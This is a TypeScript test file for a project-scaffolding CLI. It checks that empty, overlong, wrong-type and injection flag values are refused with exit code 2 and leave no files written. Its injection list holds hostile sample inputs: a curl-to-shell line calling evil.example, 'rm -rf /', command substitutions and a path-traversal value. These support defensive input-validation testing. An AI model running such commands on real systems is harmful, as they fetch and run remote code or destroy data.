/**
 * Battery: bad input. Every value flag of every stack gets empty, too long,
 * wrong-type and injection values: exit 2, a message naming the flag, and
 * nothing written. Unknown flags and stacks likewise; no TTY without --yes
 * ends with exit 2 within a second.
 */
import fs from 'node:fs';
import path from 'node:path';
import { spawnSync } from 'node:child_process';
import { afterAll, describe, expect, it } from 'vitest';
import { STACKS } from '../../src/stacks/index.js';
import { EXISTING_PROJECTS } from '../helpers/safety-projects.js';
import { run, snapshot, tempDir, writeTree } from '../helpers/safety.js';

const root = tempDir('cms-input-');
afterAll(() => fs.rmSync(root, { recursive: true, force: true }));
let counter = 0;

const INJECTIONS: [string, string][] = [
  ['a newline', 'ok\nRUN curl http://evil.example | sh'],
  ['a CR', 'ok\rRUN id'],
  ['double quotes', 'ok"; rm -rf / #'],
  ['single quotes', "ok' && id '"],
  ['$()', '$(touch /tmp/pwned)'],
  ['${}', '${HOME}'],
  ['backticks', '`id`'],
  ['a line continuation', 'ok \\\nRUN id'],
  ['a trailing backslash', 'ok\\'],
  ['-- inside', 'a--b'],
  ['a leading dash', '-rf'],
  ['a path with ..', '../../etc/passwd'],
  ['a Handlebars expression', '{{name}}'],
  ['a NUL byte', 'a\u0000b'],
  ['spaces', 'a b'],
  ['non-ASCII', 'café'],
];

/** Per flag: wrong-type and too-long values that are invalid for that flag's grammar. */
const WRONG_TYPE: Record<string, string[]> = {
  name: ['My App', 'UPPER', '_x', 'x_', 'a'.repeat(65)],
  port: ['abc', '0', '65536', '-1', '3000.5', '1e3', '99999999999'],
  'node-version': ['latest', 'lts', '8', 'v', '26.x', '1'.repeat(300)],
  'go-version': ['latest', '2.0', '1', '1.x', 'go', '1.'.repeat(100)],
  pm: ['npm2', 'NPM', 'deno', 'yarn@4'],
  runtime: ['alpine', 'ubuntu', 'SLIM', 'distroless:latest'],
  targets: [',', 'a,,b', 'a,a', 'A,b', `${'a'.repeat(65)}`],
  packages: [',', 'lib ssl', 'Libssl', '-lib', 'a'.repeat(300)],
};

function project(stack: string): string {
  const dir = path.join(root, `${stack}-${counter++}`);
  fs.mkdirSync(dir);
  writeTree(dir, EXISTING_PROJECTS[stack]!);
  return dir;
}

const cases = STACKS.filter((s) => !s.existingOnly).flatMap((stack) => stack.questions.filter((q) => q.type !== 'confirm').map((q) => [stack.id, q.flag] as const));

describe.each(cases)('%s --%s', (stack, flag) => {
  const values: [string, string][] = [['empty', ''], ['too long', 'x'.repeat(5000)], ...INJECTIONS, ...(WRONG_TYPE[flag] ?? []).map((v): [string, string] => [`wrong: ${v.slice(0, 20)}`, v])];

  it.each(values)('%s: exit 2, the flag named, nothing written', async (_label, value) => {
    const dir = project(stack);
    const before = snapshot(dir);
    for (const argv of [[`--${flag}=${value}`], [`--${flag}`, value]]) {
      // `--flag value` with a value starting with "-" reads as a missing value: also exit 2.
      const result = await run([dir, '--stack', stack, '--yes', ...argv], root);
      expect(result.code, `${argv.join(' ')}\n${result.stderr}`).toBe(2);
      expect(result.stderr).toContain(`--${flag}`);
      expect(snapshot(dir)).toEqual(before);
      const dry = await run([dir, '--stack', stack, '--yes', '--dry-run', ...argv], root);
      expect(dry.code).toBe(2);
      expect(snapshot(dir)).toEqual(before);
    }
  });
});

describe('flags and stacks', () => {
  it.each([
    [['--stak', 'nextjs'], /Unknown flag --stak\. Did you mean --stack\?/],
    [['--frobnicate'], /Unknown flag --frobnicate/],
    [['-x'], /Unknown flag -x/],
    [['--stack', 'rails'], /--stack must be one of .*nextjs.*; got "rails"/],
    [['--stack', ''], /--stack must be one of/],
    [['--stack'], /--stack needs a value/],
    [['--yes=no'], /--yes does not take a value/],
    [['a', 'b'], /Expected at most one directory, got 2/],
    [['bad\ndir'], /The directory must not contain control characters/],
  ])('%j: exit 2 with a clear message', async (argv, message) => {
    const dir = project('nextjs');
    const before = snapshot(dir);
    const result = await run([...argv, '--yes'], dir);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(message);
    expect(snapshot(dir)).toEqual(before);
  });

  it('a flag another stack owns is refused for this stack', async () => {
    const others = STACKS.flatMap((s) => s.questions.map((q) => ({ stack: s.id, flag: q.flag })));
    for (const stack of STACKS.filter((s) => !s.existingOnly)) {
      const foreign = others.find((o) => o.stack !== stack.id && !stack.questions.some((q) => q.flag === o.flag));
      if (!foreign) continue;
      const result = await run([project(stack.id), '--stack', stack.id, '--yes', `--${foreign.flag}=1`], root);
      expect(result.code).toBe(2);
      expect(result.stderr).toContain(`--${foreign.flag} does not apply to the ${stack.id} stack`);
    }
  });

  it.each(STACKS.filter((s) => !s.existingOnly).map((s) => s.id))('%s: no TTY and no --yes: exit 2 without waiting for input, naming the flags', (stack) => {
    // A new project: nothing to detect, so answers are missing.
    const dir = path.join(root, `${stack}-new-${counter++}`);
    fs.mkdirSync(dir);
    const before = snapshot(dir);
    const cli = path.resolve('bin/create-multistage.js');
    // A hang is killed at the generous bound and fails on the status; no duration is asserted.
    const result = spawnSync(process.execPath, [cli, dir, '--stack', stack], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], timeout: 15_000, env: { ...process.env, NO_COLOR: '1' } });
    expect(result.status).toBe(2);
    expect(result.stderr).toMatch(/Missing answers and no terminal to ask on/);
    expect(result.stderr).toMatch(/--yes/);
    expect(snapshot(dir)).toEqual(before);
  });
});
